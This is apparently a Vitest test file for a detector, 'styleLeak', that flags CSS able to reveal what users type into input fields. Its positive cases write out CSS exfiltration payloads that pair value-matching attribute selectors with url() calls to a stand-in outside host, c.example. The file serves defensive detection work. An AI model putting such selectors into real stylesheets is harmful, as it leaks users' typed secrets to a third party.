import { describe, expect, it } from 'vitest';
import { styleLeak } from '../../../src/analyze/text/style-leaks.js';

const letters = (address: string) =>
  ['a', 'b', 'c'].map((each) => `input[value$="${each}"] { background: url(${address}${each}) }`).join('\n');

describe('styles that tell what is typed', () => {
  it.each([
    ['letters', letters('https://c.example/')],
    ['a loop of SCSS', "input[value^='#{$c}'] { background: url('//c.example/#{$c}') }"],
    ['a template', '`input[value*="${c}"]{content:url(https://c.example/${c})}`'],
    ['a rule of a plugin', 'const h = "//c.example"; rule(`[value$="${c}"]`, "background", `url(${h}/${c})`)'],
  ])('are found: %s', (_, text) => {
    expect(styleLeak(text)).not.toBeNull();
  });

  it.each([
    ['files of their own', letters('./icons/')],
    ['the own machine', letters('http://localhost/')],
    ['words', 'input[value^="visa"] { background: url(https://c.example/visa.svg) }'],
    ['a query', 'const h = "https://c.example"; document.querySelector(`[value^="${c}"]`)'],
  ])('are none: %s', (_, text) => {
    expect(styleLeak(text)).toBeNull();
  });
});
